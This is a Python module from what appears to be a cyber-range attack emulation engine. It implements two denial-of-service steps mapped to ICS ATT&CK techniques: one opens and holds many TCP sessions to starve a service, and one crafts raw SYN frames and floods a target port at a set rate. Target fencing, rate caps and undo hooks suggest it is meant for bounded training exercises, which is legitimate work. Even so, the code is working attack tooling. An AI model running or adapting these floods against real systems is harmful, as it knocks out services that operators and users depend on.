"""Denial of service, bounded: sessions that are held open, handshakes that are never finished."""

from __future__ import annotations

import asyncio
import random
import time
from collections.abc import Mapping
from typing import Any

from cyber_range.engine.attack.ethernet import mac_bytes, segment
from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.steps.lan import leg_to, macs_of
from cyber_range.engine.attack.ways import Blocked, Channel, Evidence

MOST_SESSIONS = 256
MOST_RATE, LONGEST = 5000, 60.0  # frames per second, seconds
BATCH = 0.02  # s of frames sent at once


@step("flood_sessions", "T0814", "T0813", "T0804", needs=("session",))
async def flood_sessions(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Opens `count` connections (32) to `host`:`port` and holds them `seconds` (60): nobody else gets one."""
    host, port = intruder.fence.check(str(args["host"])), int(args["port"])
    count, seconds = min(MOST_SESSIONS, int(args.get("count", 32))), min(600.0, float(args.get("seconds", 60)))
    held: list[Channel] = []
    refused = 0
    for _ in range(count):
        try:
            held.append(await intruder.channel(host, port, 2.0))
        except Blocked:
            refused += 1
            if refused >= 8 and not held:
                raise
    evidence.facts |= {"target": host, "port": port, "opened": len(held), "refused": refused}

    async def hold() -> None:
        try:
            await asyncio.sleep(seconds)
        finally:
            for channel in held:
                channel.close()
            intruder.tell("flood_ended", {"target": host, "port": port, "sessions": len(held)})

    name = f"flood {host}:{port}"
    intruder.go_on(name, hold())

    async def let_go(_: Evidence) -> dict[str, Any]:
        intruder.end(name)
        return {"target": host, "port": port, "released": len(held)}

    intruder.undo_with(name, let_go)


@step("flood_syn", "T0814", "T0815")
async def flood_syn(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Sends SYNs to `host`:`port` at `rate` per s (500) for `seconds` (10) by raw frames, over `via` (a gateway) if need be."""
    host, port = intruder.fence.check(str(args["host"])), int(args["port"])
    rate, seconds = min(MOST_RATE, int(args.get("rate", 500))), min(LONGEST, float(args.get("seconds", 10)))
    next_hop = str(args.get("via") or host)
    leg = leg_to(intruder, next_hop)
    macs = (mac_bytes(leg.mac), (await macs_of(intruder, leg, [next_hop]))[next_hop])
    dice = random.Random(f"{host}:{port}")  # noqa: S311 - ports and numbers of a flood are no secret
    wanted, sent, began = round(rate * seconds), 0, time.monotonic()
    while sent < wanted:
        due = min(wanted, round((time.monotonic() - began + BATCH) * rate))
        frames = [
            segment(
                macs, (leg.ip, host), (dice.randrange(20000, 32000), port),
                seq=dice.getrandbits(32), ident=dice.getrandbits(16),
            ).pack()
            for _ in range(due - sent)
        ]  # fmt: skip
        sent += len(frames)
        if frames and intruder.toolbox.send_frames(leg.name, frames) == 0:
            raise Blocked("the interface takes no frames")
        evidence.sent += sum(map(len, frames))
        await asyncio.sleep(BATCH)
    evidence.facts |= {"target": host, "port": port, "frames": sent, "seconds": round(time.monotonic() - began, 2)}
